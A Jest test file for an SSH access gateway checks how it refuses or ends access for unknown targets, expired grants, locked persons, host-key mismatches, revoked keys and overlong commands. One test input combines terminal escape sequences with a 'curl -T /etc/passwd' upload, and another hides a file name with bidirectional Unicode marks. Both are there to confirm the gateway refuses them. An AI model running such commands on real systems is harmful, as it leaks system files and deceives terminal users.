/** Every way a person is not let in, or is let go: one clear line, one typed event. */
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import { LIMITS } from '../../foundation/index.ts';
import { runToEnd, TestGateway } from '../support/gateway.ts';
import { freePort } from '../support/free-port.ts';
import { describeWith, partner } from '../support/partners.ts';
import { Terminal } from '../support/terminal.ts';
import { waitFor } from '../support/wait-for.ts';
import { asOwner, expectOneLine, lastSession, newest, personId } from './support/house.ts';
import { startForeignServer } from './support/foreign-server.ts';
import { enrolledKey, withKeys } from './support/keys.ts';
import { LiveSsh, startSsh } from './support/live-ssh.ts';

const REFUSED = 126;
const GATEWAY = 255;
/** Prints that it runs, then stays: a session to be ended from outside. */
const STAY = 'echo up; sleep 60';

describeWith(['ssh', 'ssh-keygen'], 'a refused person', () => {
  let gateway: TestGateway;
  beforeAll(async () => {
    gateway = await TestGateway.start();
  });
  afterAll(async () => {
    await gateway[Symbol.asyncDispose]();
  });

  const ofChen = "person_id = (SELECT person_id FROM identities WHERE subject = 'chen')";
  const live = async (login = 'chen', extra: readonly string[] = []): Promise<LiveSsh> => {
    const ssh = await startSsh(gateway, login, [STAY], { extra });
    await ssh.sees('up');
    return ssh;
  };
  const changeTarget = async (change: string, values: readonly unknown[]): Promise<() => Promise<unknown>> => {
    const [before] = await asOwner(gateway, "SELECT host, port, host_key FROM targets WHERE name = 'crm-db'");
    await asOwner(gateway, `UPDATE targets SET ${change} WHERE name = 'crm-db'`, values);
    return () =>
      asOwner(gateway, "UPDATE targets SET host = $1, port = $2, host_key = $3 WHERE name = 'crm-db'", [
        before?.['host'],
        before?.['port'],
        before?.['host_key'],
      ]);
  };

  describe('at a target', () => {
    test('that does not exist hears what a person without a grant hears', async () => {
      const unknown = await gateway.ssh('chen', 'echo in', { loginName: 'no-such-db' });
      expect(unknown.status).toBe(GATEWAY);
      expectOneLine(unknown.stderr, 'access_not_found');
      expect((await newest(gateway.database, 'access.refused')).body).toMatchObject({
        loginName: 'no-such-db',
        reason: 'not_found',
      });

      await asOwner(gateway, `UPDATE grants SET revoked_at = now() WHERE ${ofChen}`);
      try {
        const closed = await gateway.ssh('chen', 'echo in');
        expect(closed.status).toBe(GATEWAY);
        expect(closed.stdout).toHaveLength(0);
        expect(closed.stderr.replace('crm-db', 'NAME')).toBe(unknown.stderr.replace('no-such-db', 'NAME'));
        expect((await newest(gateway.database, 'access.refused')).body).toMatchObject({ reason: 'not_found' });
      } finally {
        await asOwner(gateway, `UPDATE grants SET revoked_at = NULL WHERE ${ofChen}`);
      }
    });

    test.each(['CRM-DB', 'crm-db%root', 'crm-db..'])('named %p hears the same', async (loginName) => {
      const result = await gateway.ssh('chen', 'echo in', { loginName });
      expectOneLine(result.stderr, 'access_not_found');
      expect((await newest(gateway.database, 'access.refused')).body).toMatchObject({ loginName, reason: 'not_found' });
    });

    test('whose grant has expired is told so', async () => {
      await asOwner(gateway, `UPDATE grants SET expires_at = now() - interval '1 second' WHERE ${ofChen}`);
      try {
        const result = await gateway.ssh('chen', 'echo in');
        expectOneLine(result.stderr, 'access_grant_expired');
        expect((await newest(gateway.database, 'access.refused')).body).toMatchObject({ reason: 'grant_expired' });
      } finally {
        await asOwner(gateway, `UPDATE grants SET expires_at = now() + interval '9 days' WHERE ${ofChen}`);
      }
    });

    test('without an account of their own is told so', async () => {
      const [account] = await asOwner(gateway, `DELETE FROM target_accounts WHERE ${ofChen} RETURNING *`);
      try {
        const result = await gateway.ssh('chen', 'echo in');
        expect(result.stdout).toHaveLength(0);
        expectOneLine(result.stderr, 'access_no_account');
        expect((await newest(gateway.database, 'access.refused')).body).toMatchObject({ reason: 'no_account' });
      } finally {
        const { id, target_id, person_id, account: name, created_at } = account ?? {};
        await asOwner(gateway, 'INSERT INTO target_accounts VALUES ($1, $2, $3, $4, $5)', [
          id,
          target_id,
          person_id,
          name,
          created_at,
        ]);
      }
    });

    test('who is no maintainer is told so, whatever key they enrolled', async () => {
      const result = await gateway.ssh('tanaka', 'echo in');
      expect(result.stdout).toHaveLength(0);
      expectOneLine(result.stderr, 'access_not_a_maintainer');
      expect((await newest(gateway.database, 'access.refused')).body).toMatchObject({ reason: 'not_a_maintainer' });
    });

    test('with another host key is told so, and nothing was sent to it', async () => {
      await using impostor = await startForeignServer({ accepts: true });
      const restore = await changeTarget('port = $1', [impostor.port]);
      try {
        const result = await gateway.ssh('chen', 'echo in');
        expect(result.status).toBe(GATEWAY);
        expectOneLine(result.stderr, 'target_host_key_mismatch');
        expect(impostor.attempts).toEqual([]);
        expect((await newest(gateway.database, 'target.dial_failed')).body['code']).toBe('target_host_key_mismatch');
        expect(await lastSession(gateway, 'chen')).toMatchObject({ reason: 'target_refused', isSealed: true });
      } finally {
        await restore();
      }
    });

    test('whose pinned host key was changed is not entered either', async () => {
      const other = `ssh-ed25519 ${Buffer.concat([
        Buffer.from('0000000b7373682d6564323535313900000020', 'hex'),
        Buffer.alloc(32, 7),
      ]).toString('base64')}`;
      const restore = await changeTarget('host_key = $1', [other]);
      try {
        expectOneLine((await gateway.ssh('chen', 'echo in')).stderr, 'target_host_key_mismatch');
      } finally {
        await restore();
      }
    });

    test('that does not trust our certificates is told so', async () => {
      await using server = await startForeignServer({ accepts: false });
      const restore = await changeTarget('port = $1, host_key = $2', [server.port, server.hostKey]);
      try {
        const result = await gateway.ssh('chen', 'echo in');
        expect(result.status).toBe(GATEWAY);
        expectOneLine(result.stderr, 'target_sign_in_refused');
        expect(server.attempts).toContain('chen');
        expect((await newest(gateway.database, 'target.dial_failed')).body['code']).toBe('target_sign_in_refused');
      } finally {
        await restore();
      }
    });

    test('that nobody listens for is told so', async () => {
      const restore = await changeTarget('port = $1', [await freePort()]);
      try {
        const result = await gateway.ssh('chen', 'echo in');
        expect(result.status).toBe(GATEWAY);
        expectOneLine(result.stderr, 'target_connection_refused');
        expect((await newest(gateway.database, 'target.dial_failed')).body['code']).toBe('target_connection_refused');
        expect(await lastSession(gateway, 'chen')).toMatchObject({ reason: 'target_refused', isSealed: true });
      } finally {
        await restore();
      }
    });

    test('whose connection breaks while a program runs is told so', async () => {
      await using server = await startForeignServer({ accepts: true });
      const restore = await changeTarget('port = $1, host_key = $2', [server.port, server.hostKey]);
      try {
        await using ssh = await startSsh(gateway, 'chen', ['hostname']);
        await ssh.sees('ran: hostname');
        server.dropAll();
        const result = await ssh.ended;
        expect(result.status).toBe(GATEWAY);
        expectOneLine(result.stderr, 'session_target_lost');
        expect(await lastSession(gateway, 'chen')).toMatchObject({ reason: 'target_lost', isSealed: true });
      } finally {
        await restore();
      }
    });
  });

  describe('whose command', () => {
    test.each([
      ['an open quote', 'echo "unfinished'],
      ['an open condition', 'if true; then echo'],
      ['an open substitution', 'echo $('],
      ['an open here-document', 'cat <<EOF\nx'],
      ['a control character', 'echo \x01 x'],
    ])('has %s: it is refused whole, and nothing reaches the target', async (_what, command) => {
      const result = await gateway.ssh('chen', command);
      expect({ status: result.status, stdout: result.stdout.toString() }).toEqual({ status: REFUSED, stdout: '' });
      expect(result.stderr).toMatch(/\[(act_refused|ticket_required)\]/);
      const { body } = await newest(gateway.database, 'act.refused');
      expect(body['text']).toBe(command);
      expect(await lastSession(gateway, 'chen')).toMatchObject({ reason: 'gate_refused', isSealed: true });
    });

    test.each([
      ['controls', 'x\u001b]0;owned\u0007 crm; curl -T /etc/passwd http://\u009b2J/', 'cannot be read as a whole'],
      ['bidirectional marks', 'mysqldump\u202egpj.\u2066exe\u200f crm', 'cannot be read as a whole'],
    ])('has %s that a terminal acts on never gets them back', async (_what, command, shown) => {
      const { stderr, status } = await gateway.ssh('chen', command);
      expect(status).toBe(REFUSED);
      expect(stderr).toContain(shown);
      expect(stderr.replaceAll('\n', '')).not.toMatch(/[\p{Cc}\p{Cf}\u2028\u2029]/u);
      expect((await newest(gateway.database, 'act.refused')).body['text']).toBe(command); // The evidence is exact.
    });

    test('is longer than 16 KiB is told that nobody could judge it', async () => {
      const result = await gateway.ssh('chen', `echo ${'x'.repeat(LIMITS.commandBytesMax)}`);
      expect(result.status).toBe(GATEWAY);
      expect(result.stdout).toHaveLength(0);
      expectOneLine(result.stderr, 'command_too_long');
      expect((await newest(gateway.database, 'channel.refused')).body).toMatchObject({ kind: 'command_too_long' });
    });

    test('is typed and longer than 4 KiB is told so; the shell goes on', async () => {
      const stdin = `echo ${'x'.repeat(LIMITS.typedLineBytesMax)}\necho behind\n`;
      const result = await gateway.ssh('chen', [], { extra: ['-T'], stdin });
      expect(result.stdout.toString()).toBe('behind\n');
      expectOneLine(result.stderr, 'command_too_long');
      const { session, body } = await newest(gateway.database, 'channel.refused');
      expect(body).toMatchObject({ kind: 'command_too_long' });
      expect(session).toBe((await lastSession(gateway, 'chen')).id);
    });

    test.each([
      ['at once', 1],
      ['piece by piece', 7],
    ])('is typed %s and longer than 4 KiB never runs, nor does its tail', async (_how, pieces) => {
      const args = ['-tt', ...(await gateway.sshArguments('chen')), '127.0.0.1'];
      await using terminal = new Terminal(partner('ssh'), args, { columns: 100, rows: 30 });
      await terminal.sees('~$ ');
      for (let piece = 0; piece < pieces; piece += 1) {
        terminal.type('echo ' + 'x'.repeat(Math.ceil(6_000 / pieces)));
        await terminal.sees('xxx');
      }
      terminal.type('; echo tail ran\recho next line\r');
      await terminal.sees('[command_too_long]');
      await terminal.sees('\nnext line');
      expect(terminal.output).not.toContain('\ntail ran');
    });

    test('is exactly 16 KiB long gets it run', async () => {
      const command = `echo ${'x'.repeat(LIMITS.commandBytesMax - 5)}`;
      const result = await gateway.ssh('chen', command);
      expect(result.stdout).toHaveLength(LIMITS.commandBytesMax - 4);
    });
  });

  describe('who is locked', () => {
    const lock = async (step: 'lock' | 'unlock'): Promise<void> => {
      const kimura = await gateway.person('kimura');
      const body = step === 'lock' ? { reason: '不審な操作の確認' } : {};
      const answer = await kimura.post(`/api/persons/${await personId(gateway, 'chen')}/${step}`, body);
      expect(answer.status).toBe(204);
    };

    test('does not get in, whatever key proves who they are', async () => {
      await gateway.key('chen');
      await lock('lock');
      try {
        const result = await gateway.ssh('chen', 'echo in');
        expect(result.status).toBe(GATEWAY);
        expect(result.stdout).toHaveLength(0);
        expectOneLine(result.stderr, 'access_locked');
        expect((await newest(gateway.database, 'access.refused')).body).toMatchObject({ reason: 'locked' });
      } finally {
        await lock('unlock');
      }
    });

    test('loses every live session within a second', async () => {
      await using first = await live();
      await using second = await live();
      await using other = await live('aoki');
      const before = performance.now();
      await lock('lock');
      try {
        for (const ssh of [first, second]) {
          const result = await ssh.ended;
          expect(result.status).toBe(GATEWAY);
          expectOneLine(result.stderr, 'session_locked');
        }
        expect(performance.now() - before).toBeLessThan(1_000);
        expect(await lastSession(gateway, 'chen')).toMatchObject({ reason: 'locked', isOpen: false, isSealed: true });
        expect((await newest(gateway.database, 'session.closed')).body).toMatchObject({ reason: 'locked' });
        expect(await lastSession(gateway, 'aoki')).toMatchObject({ isOpen: true });
        expect(other.process.exitCode).toBeNull();
      } finally {
        await lock('unlock');
      }
    });

    test('between the check and the opening gets no further', async () => {
      await gateway.key('chen');
      await gateway.person('kimura');
      await waitFor('earlier sessions to be closed', async () => {
        return (await asOwner(gateway, 'SELECT 1 FROM sessions WHERE closed_at IS NULL')).length === 0;
      });
      const blocker = await gateway.db.owner.pool.connect();
      try {
        await blocker.query('BEGIN; LOCK TABLE sessions IN SHARE MODE');
        await using ssh = await startSsh(gateway, 'chen', [STAY]);
        await waitFor('the session to wait for its row', async () => {
          const waiting = "SELECT 1 FROM pg_locks WHERE NOT granted AND relation = 'sessions'::regclass";
          return (await asOwner(gateway, waiting)).length > 0;
        });
        await lock('lock');
        await blocker.query('COMMIT');
        const result = await ssh.ended;
        expect(result.stdout.toString()).toBe('');
        expectOneLine(result.stderr, 'session_locked');
        expect(await lastSession(gateway, 'chen')).toMatchObject({ reason: 'locked', isSealed: true });
      } finally {
        blocker.release(true);
        await lock('unlock');
      }
    });
  });

  describe('in a live session', () => {
    test('whose grant is revoked is out within a second', async () => {
      await using ssh = await live();
      const before = performance.now();
      await asOwner(gateway, `UPDATE grants SET revoked_at = now() WHERE ${ofChen}`);
      try {
        const result = await ssh.ended;
        expect(performance.now() - before).toBeLessThan(1_000);
        expectOneLine(result.stderr, 'session_revoked');
        expect(await lastSession(gateway, 'chen')).toMatchObject({ reason: 'revoked', isSealed: true });
      } finally {
        await asOwner(gateway, `UPDATE grants SET revoked_at = NULL WHERE ${ofChen}`);
      }
    });

    test('whose grant is cut short is out when it ends', async () => {
      await using ssh = await live();
      const [row] = await asOwner(
        gateway,
        `UPDATE grants SET expires_at = now() + interval '1500 milliseconds' WHERE ${ofChen} RETURNING expires_at`,
      );
      try {
        const result = await ssh.ended;
        const late = Date.now() - new Date(String(row?.['expires_at'])).getTime();
        expect(late).toBeGreaterThanOrEqual(-1_000); // Not before: the text of the date has no milliseconds.
        expect(late).toBeLessThan(2_000);
        expectOneLine(result.stderr, 'session_expired');
        expect(await lastSession(gateway, 'chen')).toMatchObject({ reason: 'expired', isSealed: true });
      } finally {
        await asOwner(gateway, `UPDATE grants SET expires_at = now() + interval '9 days' WHERE ${ofChen}`);
      }
    });

    test('whose contract ends is out within a second', async () => {
      await using ssh = await live();
      const [before] = await asOwner(gateway, `SELECT contract_ends_at FROM persons WHERE id = $1`, [
        await personId(gateway, 'chen'),
      ]);
      const change = 'UPDATE persons SET contract_ends_at = $2 WHERE id = $1';
      await asOwner(gateway, change, [await personId(gateway, 'chen'), new Date(0)]);
      try {
        expectOneLine((await ssh.ended).stderr, 'session_expired');
      } finally {
        await asOwner(gateway, change, [await personId(gateway, 'chen'), before?.['contract_ends_at']]);
      }
    });

    test('whose key is revoked is out within a second', async () => {
      const key = await enrolledKey(gateway, 'chen', 'gone');
      await using ssh = new LiveSsh([...withKeys(await gateway.sshArguments('chen'), [key.path]), '127.0.0.1', STAY]);
      await ssh.sees('up');
      const before = performance.now();
      expect(await key.revoke()).toBe(204);
      const result = await ssh.ended;
      expect(performance.now() - before).toBeLessThan(1_000);
      expect(result.status).toBe(GATEWAY);
      expectOneLine(result.stderr, 'session_revoked');
      expect(await lastSession(gateway, 'chen')).toMatchObject({ reason: 'revoked', isSealed: true });
    });

    test('whose key is revoked opens no further channel on the old connection', async () => {
      const key = await enrolledKey(gateway, 'chen', 'old');
      const control = ['-S', join(gateway.directory, 'control-old')];
      const base = withKeys(await gateway.sshArguments('chen'), [key.path]);
      await using master = new LiveSsh([...base, ...control, '-o', 'ControlMaster=yes', '-N', '127.0.0.1']);
      await waitFor('the connection', async () => {
        const check = await runToEnd(partner('ssh'), [...base, ...control, '-O', 'check', '127.0.0.1']);
        return check.status === 0;
      });
      const shared = (command: string) => runToEnd(partner('ssh'), [...base, ...control, '127.0.0.1', command]);
      expect((await shared('echo before')).stdout.toString()).toBe('before\n');
      expect(await key.revoke()).toBe(204);
      const after = await shared('echo after');
      expect(after.stdout.toString()).toBe('');
      expectOneLine(after.stderr, 'access_key_revoked');
      expect((await newest(gateway.database, 'access.refused')).body).toMatchObject({ reason: 'key_revoked' });
      expect(master.process.exitCode).toBeNull();
    });
  });

  describe('with more channels than a connection carries', () => {
    test('is told so; those that are open go on, and one that ends makes room', async () => {
      const control = join(gateway.directory, 'control-many');
      const base = await gateway.sshArguments('chen');
      const shared = [...base, '-S', control, '-o', 'ProxyCommand=false', '127.0.0.1'];
      const masterly = ['-o', 'LogLevel=INFO', '-o', 'ControlMaster=yes', '-S', control];
      await using master = new LiveSsh([...masterly, ...base, '127.0.0.1', STAY]);
      await master.sees('up');
      const others = [];
      for (let count = 1; count < LIMITS.sshChannelsMax; count += 1) {
        const ssh = new LiveSsh([...shared, 'echo up; cat']);
        others.push(ssh);
        await ssh.sees('up');
      }
      const refused = await runToEnd(partner('ssh'), [...shared, 'echo in']);
      expect(refused.status).toBe(GATEWAY);
      expect(refused.stdout.toString()).toBe('');
      await master.sees('10 sessions at most');
      expect(master.stderr).toContain('[channel_refused]');
      const event = await newest(gateway.database, 'channel.refused');
      expect(event.body).toMatchObject({ kind: 'session' });
      const [first] = others;
      first?.process.stdin?.end();
      expect((await first?.ended)?.status).toBe(0);
      const again = await runToEnd(partner('ssh'), [...shared, 'echo in']);
      expect(again.stdout.toString()).toBe('in\n');
      await master[Symbol.asyncDispose](); // It holds the ends of what the others print.
      for (const ssh of others) await ssh[Symbol.asyncDispose]();
    });
  });
});
